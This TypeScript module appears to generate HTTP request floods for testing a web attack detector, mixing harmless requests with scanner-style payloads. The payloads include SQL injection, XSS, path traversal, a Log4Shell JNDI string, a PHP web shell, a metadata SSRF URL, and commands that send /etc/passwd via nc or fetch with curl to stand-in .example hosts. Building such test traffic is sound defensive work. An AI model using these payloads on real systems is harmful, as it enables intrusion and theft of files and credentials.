import { Random } from './random.ts'

/** So many that a flood repeats only after much other traffic. */
const variedCount = 4096

const browser = [
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language: en-GB,en;q=0.9',
  'Accept-Encoding: gzip, deflate',
  'Cookie: session=5f2b6c0e9d7a4b31; theme=light',
]

const fixedAttack = [
  "1' union select name, password from users where '1'='1",
  '<script>alert(document.cookie)</script>',
] as const

/** Typical requests of scanners, with parts that differ from request to request. */
const attacks: readonly ((random: Random) => string)[] = [
  r => `${r.number(1000)}' union select ${r.word()}, ${r.word()} from ${r.word()} where '1'='1`,
  r => `${r.number(1000)} AND ${r.number(9000)}=${r.number(9000)}-- ${r.token(4)}`,
  r => `${r.word()}') OR ('${r.token(4)}'='${r.token(4)}`,
  r => `${r.number(1000)};SELECT PG_SLEEP(${r.number(9)})--`,
  r => `1 AND (SELECT ${r.number(9000)} FROM (SELECT(SLEEP(${r.number(9)})))${r.token(4)})`,
  r => `<script>alert(${r.number(10000)})</script>`,
  r => `"><img src=${r.word()} onerror=alert(${r.number(10000)})>`,
  r => `<svg/onload=fetch('//${r.word()}.example/${r.hex(6)}')>`,
  r => `../../../../../../etc/passwd%00${r.word()}`,
  r => `/${r.word()}/../../../../windows/win.ini?${r.number(1000)}`,
  r => `;cat /etc/passwd|nc ${r.word()}.example ${r.number(60000)}`,
  r => `$(curl http://${r.word()}.example/${r.hex(8)})`,
  r => `\${jndi:ldap://${r.word()}.example/${r.hex(8)}}`,
  r => `<?php system($_GET['${r.word()}']); ?>`,
  r => `http://169.254.169.254/latest/meta-data/${r.word()}`,
]

/** The same harmless request, repeated. */
export function sameOrdinary(host: string): readonly string[] {
  const random = new Random()
  return [request(host, random.text(fixedAttack[0].length), random.text(fixedAttack[1].length))]
}

/** The same attack, repeated. */
export function sameAttack(host: string): readonly string[] {
  return [request(host, ...fixedAttack)]
}

/** Harmless requests, nearly all different, as long as `variedAttacks`. */
export function variedOrdinary(host: string): readonly string[] {
  const random = new Random()
  return varied((attack, text) => request(host, random.text(attack.length), text))
}

/** Attacks, nearly all different. */
export function variedAttacks(host: string): readonly string[] {
  return varied((attack, text) => request(host, attack, text))
}

function varied(make: (attack: string, text: string) => string): readonly string[] {
  const random = new Random()
  return Array.from({ length: variedCount }, (_, index) =>
    make(attacks[index % attacks.length]!(random), random.text(12)),
  )
}

function request(host: string, colour: string, text: string): string {
  const query = new URLSearchParams({ colour, text })
  return [`GET /products?${query} HTTP/1.1`, `Host: ${host}`, ...browser, '', ''].join('\r\n')
}
